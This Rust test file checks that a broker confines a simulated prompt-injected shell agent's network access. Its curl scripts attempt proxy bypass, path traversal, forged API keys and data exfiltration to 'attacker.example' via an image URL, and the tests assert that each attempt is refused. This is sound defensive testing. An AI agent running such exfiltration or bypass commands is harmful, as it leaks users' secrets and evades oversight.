//! A command agent's network goes through the broker, through the binary: the agent is
//! `/bin/sh` running the request as its script (so it does what a prompt-injected agent's own
//! shell would: `curl`, `git clone`), against origins on loopback that keep every request
//! they read. Its sandbox has no network of its own; each host is decided by the run's broker
//! gate (grants, the rule table, an ask to the run's principal), a name is resolved once and
//! its address checked, and the model endpoint is reached through the gateway only, with the
//! real key put on by Switchboard.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::common;
use crate::common::project::git;
use crate::common::prompted::{PROMPT, Prompted};

/// A loopback HTTP origin: a file under `root` when there is one (a dumb-HTTP git repository
/// among them), else `origin <name>`. Every request head (and body) it reads is kept.
struct Origin {
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Origin {
    async fn serve(ip: &str, name: &'static str, root: Option<PathBuf>) -> Origin {
        let listener = tokio::net::TcpListener::bind((ip, 0)).await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let kept = seen.clone();
        tokio::spawn(async move {
            while let Ok((mut tcp, _)) = listener.accept().await {
                let kept = kept.clone();
                let root = root.clone();
                tokio::spawn(async move {
                    let Some(request) = read_request(&mut tcp).await else {
                        return;
                    };
                    kept.lock().unwrap().push(request.clone());
                    let path = request.split_whitespace().nth(1).unwrap_or("/").to_owned();
                    // A slow answer keeps its connection open for a while.
                    if path.starts_with("/slow") {
                        tokio::time::sleep(Duration::from_secs(20)).await;
                    }
                    let bare = path.split('?').next().unwrap_or_default();
                    let file = root
                        .as_ref()
                        .map(|r| r.join(bare.trim_start_matches('/')))
                        .filter(|p| p.is_file());
                    let body = match file {
                        Some(file) => std::fs::read(file).unwrap(),
                        None if path.starts_with("/v1/messages") => {
                            br#"{"type":"message","content":[{"type":"text","text":"model says hi"}]}"#
                                .to_vec()
                        }
                        None => format!("origin {name}").into_bytes(),
                    };
                    let head = format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        body.len()
                    );
                    let _ = tcp.write_all(head.as_bytes()).await;
                    let _ = tcp.write_all(&body).await;
                    let _ = tcp.shutdown().await;
                });
            }
        });
        Origin { port, seen }
    }

    /// The request lines it read (`GET /path HTTP/1.1`), in order.
    fn lines(&self) -> Vec<String> {
        self.seen
            .lock()
            .unwrap()
            .iter()
            .map(|r| r.lines().next().unwrap_or_default().to_owned())
            .collect()
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// One request's head and its `Content-Length` body, as text.
async fn read_request(tcp: &mut tokio::net::TcpStream) -> Option<String> {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    let end = loop {
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        let n = tcp.read(&mut chunk).await.ok()?;
        if n == 0 {
            return None;
        }
        buf.extend_from_slice(&chunk[..n]);
    };
    let head = String::from_utf8_lossy(&buf[..end]).into_owned();
    let length: usize = head
        .lines()
        .find_map(|l| {
            l.to_ascii_lowercase()
                .strip_prefix("content-length:")
                .map(|v| v.trim().parse().unwrap_or(0))
        })
        .unwrap_or(0);
    while buf.len() < end + length {
        let n = tcp.read(&mut chunk).await.ok()?;
        if n == 0 {
            break;
        }
        buf.extend_from_slice(&chunk[..n]);
    }
    Some(String::from_utf8_lossy(&buf).into_owned())
}

/// A bare repository with one commit whose README holds `marker`, ready for dumb HTTP.
fn served_repository(root: &Path, marker: &str) {
    let work = root.join("work");
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q", "-b", "main"]);
    std::fs::write(work.join("README"), marker).unwrap();
    git(&work, &["add", "README"]);
    git(&work, &["commit", "-q", "-m", "one"]);
    let bare = root.join("repo.git");
    git(
        root,
        &[
            "clone",
            "-q",
            "--bare",
            work.to_str().unwrap(),
            bare.to_str().unwrap(),
        ],
    );
    git(&bare, &["update-server-info"]);
}

/// A config whose agent `c` is `/bin/sh` reading its script from the request, with `grants`
/// (the `[[agent_grants]]` tables) and `extra`.
fn config(dir: &Path, grants: &str, extra: &str) -> PathBuf {
    let path = dir.join("switchboard.toml");
    std::fs::write(
        &path,
        format!(
            "[server]\ndata_dir = \"{data}\"\n[store]\nurl = \"sqlite://{db}\"\n[agents]\ndefault = \"c\"\n\
             [agents.c]\nbackend = \"command\"\ncommand = [\"/bin/sh\"]\n{extra}\n{grants}",
            data = dir.join("data").display(),
            db = dir.join("sb.db").display(),
        ),
    )
    .unwrap();
    path
}

fn grant(mode: &str, hosts: &[&String]) -> String {
    format!(
        "[[agent_grants]]\nid = \"loopback\"\nagent = \"c\"\ntool = \"http_fetch\"\nhosts = {hosts:?}\nmode = \"{mode}\"\n"
    )
}

fn switchboard(config: &Path) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_switchboard"));
    c.arg("--config")
        .arg(config)
        .env_remove("SWITCHBOARD_CONFIG")
        .env("NO_COLOR", "1");
    c
}

/// `ask` on `cmd` (the binary with its config and any environment) with `args` and `script`
/// as the request; stdout and stderr once it exits.
async fn ask(mut cmd: Command, args: &[&str], script: &str) -> (String, String) {
    cmd.arg("ask").args(args).arg(script).stdin(Stdio::null());
    tokio::task::spawn_blocking(move || {
        let out = cmd.output().unwrap();
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    })
    .await
    .unwrap()
}

/// `curl` as the script runs it: the body (or curl's complaint) on one line after `label:`.
fn curl(label: &str, args: &str) -> String {
    format!("echo \"{label}: $(curl -sS -m 20 {args} 2>&1 | tr '\\n' ' ')\"\n")
}

/// The line of `out` that starts `label: `.
fn said<'a>(out: &'a str, label: &str) -> &'a str {
    let start = format!("{label}: ");
    out.lines()
        .find_map(|l| l.strip_prefix(&start))
        .unwrap_or_else(|| panic!("no {label} line in {out}"))
}

/// Granted hosts are reached (plain HTTP, a CONNECT tunnel, a git clone); an ungranted one,
/// a name that resolves to a refused range, and a connection around the proxy never are.
#[tokio::test(flavor = "multi_thread")]
async fn only_hosts_the_broker_allows_are_reached() {
    let dir = tempfile::tempdir().unwrap();
    let served = dir.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    let marker = common::project::random_marker();
    served_repository(&served, &marker);
    // The granted host and port are 127.0.0.2:<a>, named literally; 127.0.0.1 is not granted,
    // nor is 127.0.0.2 on another port, and the name `localhost` is, though what it resolves
    // to is an internal address no grant names.
    let granted = Origin::serve("127.0.0.2", "granted", Some(served)).await;
    let other = Origin::serve("127.0.0.1", "other", None).await;
    let other_port = Origin::serve("127.0.0.2", "other port", None).await;
    let (a, b, c) = (granted.port, other.port, other_port.port);
    let cfg = config(
        dir.path(),
        &grant(
            "auto",
            &[&format!("127.0.0.2:{a}"), &format!("localhost:{b}")],
        ),
        "",
    );
    let script = [
        "export HOME=/tmp".to_owned(),
        curl("granted", &format!("http://127.0.0.2:{a}/granted")),
        curl("ungranted", &format!("http://127.0.0.1:{b}/ungranted")),
        curl("port", &format!("--proxytunnel http://127.0.0.2:{c}/port")),
        curl("direct", &format!("--noproxy '*' http://127.0.0.2:{a}/direct")),
        curl("tunnel", &format!("--proxytunnel http://127.0.0.2:{a}/tunnel")),
        curl("named", &format!("http://localhost:{b}/named")),
        format!("git clone -q http://127.0.0.2:{a}/repo.git /tmp/clone >/dev/null 2>&1; echo \"cloned: $(cat /tmp/clone/README)\""),
    ]
    .join("\n");
    let (out, err) = ask(
        switchboard(&cfg),
        &["--policy-rule", "net.fetch=allow"],
        &script,
    )
    .await;
    assert_eq!(said(&out, "granted"), "origin granted", "{out}\n{err}");
    assert_eq!(said(&out, "tunnel"), "origin granted", "{out}");
    assert_eq!(said(&out, "cloned"), marker, "{out}\n{err}");
    assert!(
        said(&out, "ungranted").contains("switchboard: refused: net.fetch: no-grant"),
        "{out}"
    );
    assert!(
        said(&out, "named").contains("localhost resolves to ")
            && said(&out, "named").contains("an internal address"),
        "{out}"
    );
    assert!(
        said(&out, "direct").contains("Couldn't connect")
            || said(&out, "direct").contains("Failed to connect"),
        "{out}"
    );
    let lines = granted.lines();
    assert!(
        lines.contains(&"GET /granted HTTP/1.1".to_owned()),
        "{lines:?}"
    );
    assert!(
        lines.contains(&"GET /tunnel HTTP/1.1".to_owned()),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l.starts_with("GET /repo.git/")),
        "{lines:?}"
    );
    assert!(!lines.iter().any(|l| l.contains("/direct")), "{lines:?}");
    // The Host a request carries is the one decided, never the program's own.
    assert!(
        granted
            .requests()
            .iter()
            .all(|r| r.contains(&format!("Host: 127.0.0.2:{a}\r\n"))),
        "{:?}",
        granted.requests()
    );
    assert!(other.lines().is_empty(), "{:?}", other.lines());
    assert!(
        said(&out, "port").contains("CONNECT tunnel failed, response 403"),
        "{out}"
    );
    assert!(other_port.lines().is_empty(), "{:?}", other_port.lines());
}

/// An `ask` grant puts each new host and port to the run's principal, one question at a
/// time: a no is never reached and holds for the run (not asked again), a yes is reached and
/// holds for that host and port alone.
#[tokio::test(flavor = "multi_thread")]
async fn an_ask_is_put_to_the_runs_principal_and_only_a_yes_reaches_the_host() {
    let dir = tempfile::tempdir().unwrap();
    let refused = Origin::serve("127.0.0.1", "refused", None).await;
    let approved = Origin::serve("127.0.0.1", "approved", None).await;
    let (a, b) = (refused.port, approved.port);
    let cfg = config(
        dir.path(),
        &grant(
            "ask",
            &[&format!("127.0.0.1:{a}"), &format!("127.0.0.1:{b}")],
        ),
        "",
    );
    let script = [
        curl("first", &format!("http://127.0.0.1:{a}/first")),
        curl("again", &format!("http://127.0.0.1:{a}/again")),
        curl("second", &format!("http://127.0.0.1:{b}/second")),
        curl(
            "third",
            &format!("--proxytunnel http://127.0.0.1:{b}/third"),
        ),
    ]
    .join("");
    let (out, err) = tokio::task::spawn_blocking(move || {
        let mut cmd = switchboard(&cfg);
        cmd.args(["ask", "--policy-rule", "net.fetch=allow", &script]);
        let mut p = Prompted::spawn(cmd);
        p.answer(1, "n\n");
        p.answer(2, "y\n");
        p.finish()
    })
    .await
    .unwrap();
    assert!(
        said(&out, "first").contains("needs a person's approval: refused"),
        "{out}"
    );
    assert!(
        said(&out, "again").contains("earlier in this run; not asked again"),
        "{out}"
    );
    assert_eq!(said(&out, "second"), "origin approved", "{out}\n{err}");
    assert_eq!(said(&out, "third"), "origin approved", "{out}\n{err}");
    assert_eq!(err.matches(PROMPT).count(), 2, "{err}");
    // The approver is shown the host and port a yes allows, not a path.
    assert!(
        err.contains(&format!(
            "the agent asks to net.fetch (http_fetch {{\"url\":\"http://127.0.0.1:{b}/\"}})"
        )),
        "{err}"
    );
    assert!(refused.lines().is_empty(), "{:?}", refused.lines());
    assert_eq!(
        approved.lines(),
        ["GET /second HTTP/1.1", "GET /third HTTP/1.1"]
    );
}

/// The model endpoint: the agent holds a placeholder key and a base URL naming the gateway;
/// its API path reaches the endpoint with the real key whatever key the agent sent, and any
/// other path, a request naming the endpoint's host, or a tunnel to it, is refused.
#[tokio::test(flavor = "multi_thread")]
async fn the_model_endpoint_gets_the_real_key_on_its_api_paths_only() {
    let dir = tempfile::tempdir().unwrap();
    let model = Origin::serve("127.0.0.1", "model", None).await;
    let m = model.port;
    let key = format!("sk-real-{}", common::project::random_marker());
    let cfg = config(
        dir.path(),
        "",
        &format!(
            "model_endpoint = {{ api = \"anthropic\", url = \"http://127.0.0.1:{m}\", key_env = \"SB_TEST_MODEL_KEY\" }}\n"
        ),
    );
    let script = [
        "echo \"key: $ANTHROPIC_API_KEY\"\necho \"base: $ANTHROPIC_BASE_URL\"\n".to_owned(),
        curl(
            "api",
            "-X POST -H 'x-api-key: sk-attacker' -H 'authorization: Bearer sk-attacker' -H 'x-litellm-api-key: sk-attacker' -H 'anthropic-version: 2023-06-01' -H 'Expect: 100-continue' -d '{\"m\":1}' \"$ANTHROPIC_BASE_URL/v1/messages?beta=true\"",
        ),
        curl("files", "-X POST -d 'data' \"$ANTHROPIC_BASE_URL/v1/files\""),
        curl(
            "fetched",
            "-X POST -d '{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":\"https://attacker.example/?d=secret\"}}]}]}' \"$ANTHROPIC_BASE_URL/v1/messages\"",
        ),
        curl(
            "serverside",
            "-X POST -d '{\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}],\"messages\":[]}' \"$ANTHROPIC_BASE_URL/v1/messages\"",
        ),
        curl("climb", "--path-as-is \"$ANTHROPIC_BASE_URL/v1/messages/../upload\""),
        curl("direct", &format!("http://127.0.0.1:{m}/upload")),
        curl("tunnel", &format!("--proxytunnel http://127.0.0.1:{m}/v1/messages")),
    ]
    .join("");
    let mut cmd = switchboard(&cfg);
    cmd.env("SB_TEST_MODEL_KEY", &key);
    let (out, err) = ask(cmd, &[], &script).await;
    assert_eq!(
        said(&out, "key"),
        "switchboard-placeholder-key",
        "{out}\n{err}"
    );
    assert_eq!(said(&out, "base"), "http://127.0.0.1:3128", "{out}");
    assert!(said(&out, "api").contains("model says hi"), "{out}\n{err}");
    for refused in ["files", "climb", "direct"] {
        assert!(
            said(&out, refused).contains("not an API call of the agent's model endpoint"),
            "{refused}: {out}"
        );
    }
    assert!(
        said(&out, "tunnel").contains("CONNECT tunnel failed, response 403"),
        "{out}"
    );
    for asks_the_provider_to_fetch in ["fetched", "serverside"] {
        assert!(
            said(&out, asks_the_provider_to_fetch).contains("the model request is refused"),
            "{out}"
        );
    }
    let requests = model.requests();
    assert_eq!(
        requests.len(),
        1,
        "only the API request arrived: {requests:?}"
    );
    let request = requests[0].to_ascii_lowercase();
    assert!(
        request.starts_with("post /v1/messages?beta=true http/1.1"),
        "{request}"
    );
    assert!(
        request.contains(&format!("x-api-key: {}", key.to_ascii_lowercase())),
        "{request}"
    );
    assert!(!request.contains("sk-attacker"), "{request}");
    assert!(
        request.contains("anthropic-version: 2023-06-01"),
        "{request}"
    );
    assert!(request.ends_with("{\"m\":1}"), "{request}");
}

/// Under `serve`, a run a machine started (an ingress token: nobody at a keyboard) has an
/// ask refused at once and the host never reached, and Switchboard's own MCP endpoint
/// answers through the same forwarder.
#[tokio::test(flavor = "multi_thread")]
async fn with_nobody_to_ask_a_host_is_refused_at_once_and_mcp_stays_reachable() {
    let dir = tempfile::tempdir().unwrap();
    let origin = Origin::serve("127.0.0.1", "unasked", None).await;
    let a = origin.port;
    let cfg = config(
        dir.path(),
        &grant("ask", &[&format!("127.0.0.1:{a}")]),
        "[mcp]\nenabled = true\n[grants.\"http:ops\"]\nactions = [\"runs:read\", \"agent:run:*\"]\nchannels = [\"http:ops\"]\n",
    );
    let mut cmd = switchboard(&cfg);
    cmd.args(["serve", "--listen", "127.0.0.1:0"])
        .env(
            "SWITCHBOARD_INGRESS_TOKENS",
            r#"{"ops-token-0123456789": {"subject": "ops", "channel": "http:ops"}}"#,
        )
        .stderr(Stdio::null());
    let (child, addr, summary) = common::spawn_serve(cmd);
    struct Killed(std::process::Child);
    impl Drop for Killed {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let _serve = Killed(child);
    assert!(
        summary.contains("each host decided by the broker"),
        "{summary}"
    );
    let script = [
        curl("asked", &format!("http://127.0.0.1:{a}/asked")),
        curl(
            "mcp",
            "-X POST -H \"authorization: Bearer $SWITCHBOARD_AGENT_TOKEN\" -H 'content-type: application/json' -H 'accept: application/json, text/event-stream' -d '{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":\"2025-03-26\",\"capabilities\":{},\"clientInfo\":{\"name\":\"sh\",\"version\":\"1\"}}}' \"$SWITCHBOARD_MCP_URL\"",
        ),
        curl(
            "climb",
            "--path-as-is -H \"authorization: Bearer $SWITCHBOARD_AGENT_TOKEN\" \"$SWITCHBOARD_MCP_URL/../api/runs\"",
        ),
        "echo \"url: $SWITCHBOARD_MCP_URL\"\n".to_owned(),
    ]
    .join("");
    let started = Instant::now();
    let reply = reqwest::Client::new()
        .post(format!("http://{addr}/ingress?wait=120"))
        .bearer_auth("ops-token-0123456789")
        .body(script)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        said(&reply, "asked").contains("needs a person's approval: nobody to ask"),
        "{reply}"
    );
    // Refused at once: the approval timeout (300 s by default) was never waited out.
    assert!(started.elapsed() < Duration::from_secs(100), "{reply}");
    assert!(said(&reply, "mcp").contains("serverInfo"), "{reply}");
    assert_eq!(said(&reply, "url"), "http://127.0.0.1:3128/mcp", "{reply}");
    // Only the MCP endpoint's own plain paths: never another route of the server.
    assert!(
        said(&reply, "climb").contains("is not a plain path of Switchboard's MCP endpoint"),
        "{reply}"
    );
    assert!(origin.lines().is_empty(), "{:?}", origin.lines());
}

/// A model key the operator's `env_allow` passes never reaches a broker-network agent: a
/// placeholder stands in (its real key is the gateway's to put on); with `network = "host"`
/// the agent gets what `env_allow` says, as before.
#[tokio::test(flavor = "multi_thread")]
async fn a_real_key_env_allow_passes_never_reaches_a_broker_agent() {
    let dir = tempfile::tempdir().unwrap();
    let key = format!("sk-real-{}", common::project::random_marker());
    let path = dir.path().join("switchboard.toml");
    std::fs::write(
        &path,
        format!(
            "[server]\ndata_dir = \"{data}\"\n[store]\nurl = \"sqlite://{db}\"\n[agents]\ndefault = \"c\"\n\
             env_allow = [\"PATH\", \"ANTHROPIC_API_KEY\", \"OPENAI_API_KEY\", \"PROD_CLAUDE_KEY\", \"SWITCHBOARD_RUN_ID\"]\n\
             [agents.c]\nbackend = \"command\"\ncommand = [\"/bin/sh\"]\n\
             model_endpoint = {{ api = \"anthropic\", url = \"http://127.0.0.1:9\", key_env = \"PROD_CLAUDE_KEY\" }}\n\
             [agents.h]\nbackend = \"command\"\ncommand = [\"/bin/sh\"]\nnetwork = \"host\"\n",
            data = dir.path().join("data").display(),
            db = dir.path().join("sb.db").display(),
        ),
    )
    .unwrap();
    let script = "echo \"anthropic: $ANTHROPIC_API_KEY\"\necho \"openai: $OPENAI_API_KEY\"\n\
                  echo \"prod: ${PROD_CLAUDE_KEY:-absent}\"\necho \"run: $SWITCHBOARD_RUN_ID\"\n";
    let run = |agent: &'static str| {
        let mut cmd = switchboard(&path);
        cmd.env("ANTHROPIC_API_KEY", &key)
            .env("OPENAI_API_KEY", &key)
            .env("PROD_CLAUDE_KEY", &key)
            .env("SWITCHBOARD_RUN_ID", "forged-run-id");
        async move { ask(cmd, &["--agent", agent], script).await.0 }
    };
    let boxed = run("c").await;
    assert_eq!(
        said(&boxed, "anthropic"),
        "switchboard-placeholder-key",
        "{boxed}"
    );
    assert_eq!(
        said(&boxed, "openai"),
        "switchboard-placeholder-key",
        "{boxed}"
    );
    // A key a model endpoint's key_env names, under any name, is the gateway's alone.
    assert_eq!(said(&boxed, "prod"), "absent", "{boxed}");
    // Switchboard's own variables are never the operator's environment's.
    assert_ne!(said(&boxed, "run"), "forged-run-id", "{boxed}");
    // On the host's network the operator's choice stands (the sanitiser redacts the value in
    // what is shown, so it is not the placeholder that is read back).
    let hosted = run("h").await;
    assert_ne!(
        said(&hosted, "anthropic"),
        "switchboard-placeholder-key",
        "{hosted}"
    );
}

/// A connection decided before the run's taint rose is closed when it rises: a tunnel opened
/// to a host granted at `private` (the script waits until curl has sent its request through
/// it) cannot carry what a `secret`-labelled host returned later;
/// and a new connection there is refused at the new taint.
#[tokio::test(flavor = "multi_thread")]
async fn a_connection_decided_before_the_taint_rose_is_closed() {
    let dir = tempfile::tempdir().unwrap();
    let open = Origin::serve("127.0.0.1", "open", None).await;
    let secret = Origin::serve("127.0.0.1", "secret", None).await;
    let (a, b) = (open.port, secret.port);
    let grants = format!(
        "[[agent_grants]]\nid = \"open\"\nagent = \"c\"\ntool = \"http_fetch\"\nhosts = [\"127.0.0.1:{a}\"]\nmode = \"auto\"\n\
         [[agent_grants]]\nid = \"vault\"\nagent = \"c\"\ntool = \"http_fetch\"\nhosts = [\"127.0.0.1:{b}\"]\nmode = \"auto\"\nmax_taint = \"secret\"\nresult_class = \"secret\"\n"
    );
    let cfg = config(dir.path(), &grants, "");
    let script = format!(
        "curl -sS -v -m 60 --proxytunnel http://127.0.0.1:{a}/slow >/tmp/body 2>/tmp/log &\n\
         for i in $(seq 600); do grep -q '> GET /slow' /tmp/log && break; sleep 0.1; done\n\
         {vault}\
         wait $!; echo \"slow: exit $? body [$(cat /tmp/body)]\"\n\
         {again}",
        vault = curl("vault", &format!("http://127.0.0.1:{b}/vault")),
        again = curl("again", &format!("http://127.0.0.1:{a}/again")),
    );
    let (out, err) = ask(
        switchboard(&cfg),
        &["--policy-rule", "net.fetch=allow"],
        &script,
    )
    .await;
    assert_eq!(said(&out, "vault"), "origin secret", "{out}\n{err}");
    let slow = said(&out, "slow");
    assert!(
        !slow.contains("exit 0") && slow.ends_with("body []"),
        "the tunnel carried on after the taint rose: {slow}"
    );
    assert!(
        said(&out, "again").contains("switchboard: refused"),
        "{out}"
    );
    // Nothing after the taint rose reached the host (the slow request may or may not have
    // arrived before its tunnel closed: the script waits until curl sent it, not for the host).
    let lines = open.lines();
    assert!(lines.iter().all(|l| l == "GET /slow HTTP/1.1"), "{lines:?}");
}
